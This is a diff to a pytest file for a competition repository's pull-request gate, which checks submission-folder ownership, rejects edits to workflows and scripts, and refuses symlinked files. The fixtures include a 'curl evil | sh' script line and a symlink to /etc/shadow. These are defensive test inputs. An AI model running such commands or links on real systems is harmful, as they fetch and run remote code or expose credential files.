@@ -17,7 +17,7 @@ BASE_FILES = {
     ".github/workflows/validate.yml": "name: Validate\n",
     "competition/run.py": "# harness\n",
     "submissions/baseline/submission.yaml": "name: baseline\n",
-    "submissions/zoe/submission.yaml": "name: zoe\n",
+    "submissions/zoe/submission.yaml": "name: zoe\ngithub_handle: Zoe-Z\n",
     "submissions/zoe/model.py": "# zoe\n",
 }
 
@@ -119,7 +119,7 @@ def test_cli_exit_codes_messages_and_github_output(repo: Path, tmp_path: Path, c
     output = tmp_path / "github_output"
     assert run_cli(["pr", "check-changes", "--base", "main", "--head", "pr", "--repo-dir", str(repo),
                     "--github-output", str(output)]) == 0
-    assert output.read_text() == "submission=ada\n"
+    assert output.read_text() == "kind=submission\nsubmission=ada\n"
     write(repo, {"README.md": "edited\n"})
     commit(repo, "readme")
     assert run_cli(["pr", "check-changes", "--base", "main", "--head", "pr", "--repo-dir", str(repo)]) == 1
@@ -138,3 +138,93 @@ def test_submission_listings(repo: Path, capsys: pytest.CaptureFixture) -> None:
     git(repo, "rm", "-q", "-r", "submissions/zoe")
     removed = commit(repo, "remove zoe")
     assert changes.changed_submissions(after, removed, repo) == []
+
+
+def gate(repo: Path, author: str, association: str = "NONE") -> changes.Gate:
+    return changes.gate("main", "pr", author, association, repo)
+
+
+def test_a_new_folder_must_carry_the_authors_own_handle(repo: Path) -> None:
+    write(repo, {"submissions/ada/submission.yaml": "github_handle: ada\n", "submissions/ada/model.py": "#\n"})
+    commit(repo, "add ada")
+    assert gate(repo, "Ada").ok, "GitHub logins are case-insensitive"
+    decided = gate(repo, "mallory")
+    assert not decided.ok and decided.kind == "submission"
+    assert "github_handle is 'ada' but the pull request was opened by @mallory" in messages(decided.check)
+    assert "set github_handle: mallory" in messages(decided.check)
+
+
+def test_a_pr_may_not_change_another_entrants_folder(repo: Path) -> None:
+    write(repo, {"submissions/zoe/model.py": "# zoe, sabotaged\n"})
+    commit(repo, "edit zoe")
+    assert gate(repo, "zoe-z").ok
+    decided = gate(repo, "mallory")
+    assert "submissions/zoe/ belongs to @Zoe-Z; @mallory may not change it" in messages(decided.check)
+
+
+def test_a_pr_may_not_hand_its_folder_to_someone_else_or_drop_the_handle(repo: Path) -> None:
+    write(repo, {"submissions/zoe/submission.yaml": "github_handle: mallory\n"})
+    commit(repo, "take over")
+    assert "belongs to @Zoe-Z" in messages(gate(repo, "mallory").check)
+    assert "github_handle is 'mallory' but the pull request was opened by @Zoe-Z" in messages(gate(repo, "Zoe-Z").check)
+    write(repo, {"submissions/zoe/submission.yaml": "[unparsable: yaml"})
+    commit(repo, "broken")
+    assert "is missing or has no github_handle" in messages(gate(repo, "Zoe-Z").check)
+
+
+@pytest.mark.parametrize("files", [{".github/workflows/validate.yml": "on: pull_request_target\n"},
+                                   {"scripts/commit_results.sh": "curl evil | sh\n"}])
+def test_a_submission_pr_that_also_edits_workflows_or_scripts_is_rejected(repo: Path, files: dict) -> None:
+    write(repo, {"submissions/ada/submission.yaml": "github_handle: ada\n", **files})
+    commit(repo, "sneaky")
+    decided = gate(repo, "ada")
+    assert not decided.ok and f"{next(iter(files))}: is outside submissions/<name>/" in messages(decided.check)
+
+
+def test_code_prs_and_maintainer_prs_are_left_to_ci(repo: Path) -> None:
+    write(repo, {"competition/run.py": "# dependabot bump\n"})
+    commit(repo, "bump")
+    assert gate(repo, "dependabot[bot]").kind == "code" and gate(repo, "dependabot[bot]").ok
+    write(repo, {"submissions/zoe/model.py": "# removed for cheating\n"})
+    commit(repo, "maintainer edit")
+    assert gate(repo, "maintainer", "MEMBER").kind == "maintainer"
+    assert not gate(repo, "outsider", "CONTRIBUTOR").ok
+
+
+def test_cli_gate_writes_kind_and_refuses_foreign_folders(repo: Path, tmp_path: Path,
+                                                          capsys: pytest.CaptureFixture) -> None:
+    write(repo, {"README.md": "docs\n"})
+    commit(repo, "docs")
+    output = tmp_path / "out"
+    assert run_cli(["pr", "check-changes", "--base", "main", "--head", "pr", "--author", "x", "--repo-dir",
+                    str(repo), "--github-output", str(output)]) == 0
+    assert output.read_text() == "kind=code\nsubmission=\n"
+    git(repo, "reset", "-q", "--hard", "main")
+    write(repo, {"submissions/zoe/model.py": "# mine now\n"})
+    commit(repo, "zoe")
+    assert run_cli(["pr", "check-changes", "--base", "main", "--head", "pr", "--author", "mallory",
+                    "--repo-dir", str(repo)]) == 1
+    assert "belongs to @Zoe-Z" in capsys.readouterr().err
+
+
+def test_overlay_takes_only_the_folder_as_regular_files(repo: Path, tmp_path: Path) -> None:
+    from competition.github import overlay
+
+    write(repo, {"submissions/ada/submission.yaml": "github_handle: ada\n", "submissions/ada/w/x.npz": "w",
+                 "competition/run.py": "# the PR's harness: never taken\n"})
+    head = commit(repo, "ada")
+    git(repo, "switch", "-q", "main")
+    write(repo, {"submissions/ada/stale.py": "# left over\n"})
+    written = overlay.overlay(head, "ada", repo)
+    assert sorted(written) == ["submissions/ada/submission.yaml", "submissions/ada/w/x.npz"]
+    assert not (repo / "submissions/ada/stale.py").exists()
+    assert (repo / "competition/run.py").read_text() == "# harness\n"
+    assert git(repo, "rev-parse", "--abbrev-ref", "HEAD") == "main"
+    git(repo, "clean", "-q", "-fd")
+    git(repo, "switch", "-q", "pr")
+    (repo / "submissions/ada/evil").symlink_to("/etc/shadow")
+    linked = commit(repo, "link")
+    with pytest.raises(overlay.OverlayError, match="git mode 120000"):
+        overlay.overlay(linked, "ada", repo)
+    with pytest.raises(overlay.OverlayError, match="does not exist"):
+        overlay.overlay(head, "nobody", repo)
